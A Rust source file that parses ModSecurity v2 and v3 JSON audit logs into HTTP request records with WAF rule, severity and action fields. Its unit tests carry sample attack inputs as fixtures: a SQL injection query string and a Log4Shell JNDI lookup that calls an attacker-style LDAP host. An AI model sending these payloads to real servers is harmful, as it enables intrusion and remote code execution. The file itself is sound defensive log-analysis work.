//! ModSecurity JSON audit logs, one transaction per line: libmodsecurity v3
//! (`{"transaction":{"client_ip",..,"request",..,"messages":[..]}}`, also Coraza's close
//! variant) and ModSecurity v2 (`{"transaction":{"remote_address",..},"request":
//! {"request_line",..},"audit_data":{"messages":[..],"action":{"intercepted":..}}}`).
//! The action is `block` when ModSecurity intercepted the request (or, for v3, when rules
//! matched and the response is 403 outside `DetectionOnly`), `log` when rules matched
//! without interception, and absent when none matched.

use kansoku_event::HttpRequest;
use serde_json::{Map, Value};

use crate::json::{header, lookup, object, protocol, text, uint};
use crate::modsec::Findings;
use crate::text::{set_request_line, set_target};
use crate::{ParseError, Parsed, Parser, time};

/// Reads ModSecurity v2 and v3 JSON audit log lines. Stateless between lines.
#[derive(Debug, Clone, Default)]
pub struct ModsecJsonParser;

impl ModsecJsonParser {
    /// Parses one line into a record.
    pub fn parse_line(&self, line: &[u8]) -> Result<HttpRequest, ParseError> {
        let root = object(line)?;
        let Some(Value::Object(tx)) = root.get("transaction") else {
            return Err(ParseError::Malformed("no `transaction` object".into()));
        };
        if tx.contains_key("remote_address") || root.contains_key("audit_data") {
            v2(&root, tx)
        } else {
            v3(&root, tx)
        }
    }
}

fn headers_into(rec: &mut HttpRequest, headers: Option<&Value>) {
    rec.host = header(headers, "Host");
    rec.user_agent = header(headers, "User-Agent");
    rec.referer = header(headers, "Referer");
    rec.x_forwarded_for = header(headers, "X-Forwarded-For");
}

fn body(v: Option<&Value>) -> Option<String> {
    match v? {
        Value::Array(lines) => {
            let parts: Vec<&str> = lines.iter().filter_map(Value::as_str).collect();
            (!parts.is_empty()).then(|| parts.concat())
        }
        other => text(Some(other)),
    }
}

fn v3(root: &Map<String, Value>, tx: &Map<String, Value>) -> Result<HttpRequest, ParseError> {
    let mut rec = HttpRequest {
        ts: if let Some(t) = text(tx.get("time_stamp")) {
            time::ctime(&t)?
        } else if let Some(t) = text(tx.get("timestamp")) {
            time::clf(t.as_bytes())?
        } else if let Some(n) = uint(tx.get("unix_timestamp")).and_then(|n| i64::try_from(n).ok()) {
            time::epoch_units(n, 1)?
        } else {
            return Err(ParseError::Timestamp("no transaction.time_stamp".into()));
        },
        src_ip: text(tx.get("client_ip")),
        dst_ip: text(tx.get("host_ip")),
        ..Default::default()
    };
    let req = tx.get("request");
    if let Some(Value::Object(req)) = req {
        rec.method = text(req.get("method"));
        if let Some(uri) = text(req.get("uri")) {
            set_target(&mut rec, uri.as_bytes(), uri.as_bytes());
        }
        rec.protocol = protocol(req.get("http_version"));
        headers_into(&mut rec, req.get("headers"));
        rec.body = body(req.get("body"));
    }
    let resp = tx.get("response");
    rec.status = lookup_status(resp, &["http_code", "status"]);
    rec.bytes = uint(resp.and_then(|r| r.get("headers")).and_then(|h| {
        h.as_object()?
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case("Content-Length"))
            .map(|(_, v)| v)
    }));
    let mut findings = Findings::default();
    let messages = tx.get("messages").or_else(|| root.get("messages"));
    for m in messages.and_then(Value::as_array).into_iter().flatten() {
        let d = m.get("details").or_else(|| m.get("data"));
        let id = text(d.and_then(|d| d.get("ruleId").or_else(|| d.get("id"))));
        let msg = text(m.get("message"))
            .filter(|s| !s.is_empty())
            .or_else(|| text(d.and_then(|d| d.get("msg"))));
        let sev = text(d.and_then(|d| d.get("severity")));
        findings.add(id, msg, sev.as_deref());
    }
    let engine = lookup(tx, "producer.secrules_engine").and_then(Value::as_str);
    let detection_only = engine.is_some_and(|e| e.eq_ignore_ascii_case("DetectionOnly"));
    if detection_only {
        findings.intercepted = false;
    }
    let blocked = !detection_only && findings.matched() && rec.status == Some(403);
    findings.apply(&mut rec, blocked);
    Ok(rec)
}

fn lookup_status(resp: Option<&Value>, keys: &[&str]) -> Option<u16> {
    let resp = resp?;
    keys.iter()
        .find_map(|k| uint(resp.get(*k)))
        .and_then(|s| u16::try_from(s).ok())
}

fn v2(root: &Map<String, Value>, tx: &Map<String, Value>) -> Result<HttpRequest, ParseError> {
    let t =
        text(tx.get("time")).ok_or_else(|| ParseError::Timestamp("no transaction.time".into()))?;
    let mut rec = HttpRequest {
        ts: time::clf(t.as_bytes())?,
        src_ip: text(tx.get("remote_address")),
        dst_ip: text(tx.get("local_address")),
        ..Default::default()
    };
    if let Some(Value::Object(req)) = root.get("request") {
        if let Some(line) = text(req.get("request_line")) {
            set_request_line(&mut rec, line.as_bytes(), false);
        }
        headers_into(&mut rec, req.get("headers"));
        rec.body = body(req.get("body"));
    }
    rec.status = lookup_status(root.get("response"), &["status"]);
    let mut findings = Findings::default();
    let audit = root.get("audit_data");
    let messages = audit
        .and_then(|a| a.get("messages"))
        .and_then(Value::as_array);
    for m in messages.into_iter().flatten().filter_map(Value::as_str) {
        findings.add_native(m);
    }
    let intercepted = audit
        .and_then(|a| a.get("action"))
        .and_then(|a| a.get("intercepted"))
        .and_then(Value::as_bool)
        .unwrap_or(false);
    findings.apply(&mut rec, intercepted);
    Ok(rec)
}

impl Parser for ModsecJsonParser {
    fn feed(&mut self, line: &[u8], lineno: u64, out: &mut Vec<Parsed>) {
        crate::feed_single_line(line, lineno, out, |l| self.parse_line(l));
    }

    fn finish(&mut self, _out: &mut Vec<Parsed>) {}
}

#[cfg(test)]
mod tests {
    use super::*;

    const V3_BLOCKED: &str = r#"{"transaction":{"client_ip":"198.51.100.23","time_stamp":"Wed Apr 24 03:15:00 2024","server_id":"9f1c","client_port":51234,"host_ip":"10.0.0.5","host_port":443,"unique_id":"171392850012.345678","request":{"method":"GET","http_version":1.1,"uri":"/item.php?id=1%27%20OR%20%271%27=%271","headers":{"Host":"shop.example.jp","User-Agent":"sqlmap/1.7.2#stable (https://sqlmap.org)","Accept":"*/*"}},"response":{"body":"","http_code":403,"headers":{"Content-Length":"153"}},"producer":{"modsecurity":"ModSecurity v3.0.12 (Linux)","connector":"ModSecurity-nginx v1.0.3","secrules_engine":"Enabled","components":["OWASP_CRS/4.1.0"]},"messages":[{"message":"SQL Injection Attack Detected via libinjection","details":{"match":"detected SQLi using libinjection.","reference":"v12,21","ruleId":"942100","file":"/crs/REQUEST-942-APPLICATION-ATTACK-SQLI.conf","lineNumber":"46","data":"Matched Data: s&sos found within ARGS:id","severity":"2","ver":"OWASP_CRS/4.1.0","rev":"","tags":["attack-sqli"],"maturity":"0","accuracy":"0"}},{"message":"Inbound Anomaly Score Exceeded (Total Score: 5)","details":{"ruleId":"949110","severity":"0"}}]}}"#;

    const V2_BLOCKED: &str = r#"{"transaction":{"time":"02/Mar/2024:08:00:01 +0900","transaction_id":"ZeJ1Aa1AV2oonr8Z9ZoDTg","remote_address":"203.0.113.77","remote_port":40112,"local_address":"10.0.0.8","local_port":80},"request":{"request_line":"GET /cgi-bin/test.cgi?x=${jndi:ldap://203.0.113.77/a} HTTP/1.1","headers":{"Host":"www.example.jp","User-Agent":"Mozilla/5.0"}},"response":{"protocol":"HTTP/1.1","status":403,"headers":{}},"audit_data":{"messages":["Warning. Matched phrase \"jndi:ldap\" at ARGS:x. [file \"/crs/REQUEST-944.conf\"] [line \"40\"] [id \"944150\"] [msg \"Potential Remote Command Execution: Log4j / Log4shell\"] [severity \"CRITICAL\"]","Access denied with code 403 (phase 2). Operator GE matched 5 at TX:anomaly_score. [id \"949110\"] [msg \"Inbound Anomaly Score Exceeded (Total Score: 5)\"] [severity \"CRITICAL\"]"],"action":{"intercepted":true,"phase":2,"message":"Operator GE matched 5"},"engine_mode":"ENABLED"}}"#;

    #[test]
    fn v3_transaction() {
        let r = ModsecJsonParser
            .parse_line(V3_BLOCKED.as_bytes())
            .expect("valid record");
        assert_eq!(r.ts, 1_713_928_500_000_000);
        assert_eq!(r.src_ip.as_deref(), Some("198.51.100.23"));
        assert_eq!(r.dst_ip.as_deref(), Some("10.0.0.5"));
        assert_eq!(r.host.as_deref(), Some("shop.example.jp"));
        assert_eq!(r.path.as_deref(), Some("/item.php"));
        assert_eq!(r.query.as_deref(), Some("id=1' OR '1'='1"));
        assert_eq!(
            r.raw_uri.as_deref(),
            Some("/item.php?id=1%27%20OR%20%271%27=%271")
        );
        assert_eq!(r.protocol.as_deref(), Some("HTTP/1.1"));
        assert_eq!((r.status, r.bytes), (Some(403), Some(153)));
        assert_eq!(r.waf_rule_ids, ["942100", "949110"]);
        assert_eq!(
            r.waf_messages[0],
            "SQL Injection Attack Detected via libinjection"
        );
        assert_eq!(r.waf_severity.as_deref(), Some("EMERGENCY"));
        assert_eq!(r.waf_action.as_deref(), Some("block"));
    }

    #[test]
    fn v3_detection_only_and_no_messages() {
        let detect = V3_BLOCKED.replace("\"Enabled\"", "\"DetectionOnly\"");
        let r = ModsecJsonParser
            .parse_line(detect.as_bytes())
            .expect("valid record");
        assert_eq!(r.waf_action.as_deref(), Some("log"));
        let clean = V3_BLOCKED
            .split(",\"messages\"")
            .next()
            .unwrap_or_default()
            .to_string()
            + "}}";
        let r = ModsecJsonParser
            .parse_line(clean.as_bytes())
            .expect("valid record");
        assert_eq!(
            r.waf_action, None,
            "a 403 without rule matches is not the WAF's doing"
        );
    }

    #[test]
    fn v2_transaction() {
        let r = ModsecJsonParser
            .parse_line(V2_BLOCKED.as_bytes())
            .expect("valid record");
        assert_eq!(r.ts, 1_709_334_001_000_000);
        assert_eq!(r.src_ip.as_deref(), Some("203.0.113.77"));
        assert_eq!(r.method.as_deref(), Some("GET"));
        assert_eq!(r.path.as_deref(), Some("/cgi-bin/test.cgi"));
        assert_eq!(r.query.as_deref(), Some("x=${jndi:ldap://203.0.113.77/a}"));
        assert_eq!(r.status, Some(403));
        assert_eq!(r.waf_rule_ids, ["944150", "949110"]);
        assert_eq!(r.waf_severity.as_deref(), Some("CRITICAL"));
        assert_eq!(r.waf_action.as_deref(), Some("block"));
    }

    #[test]
    fn rejected_lines() {
        for line in [
            &b"{}"[..],
            b"{\"transaction\":{}}",
            b"{\"transaction\":{\"time_stamp\":\"yesterday\"}}",
            b"[1,2]",
            b"{\"transaction\":",
            b"\xff\xfe",
        ] {
            assert!(
                ModsecJsonParser.parse_line(line).is_err(),
                "{}",
                String::from_utf8_lossy(line)
            );
        }
    }
}
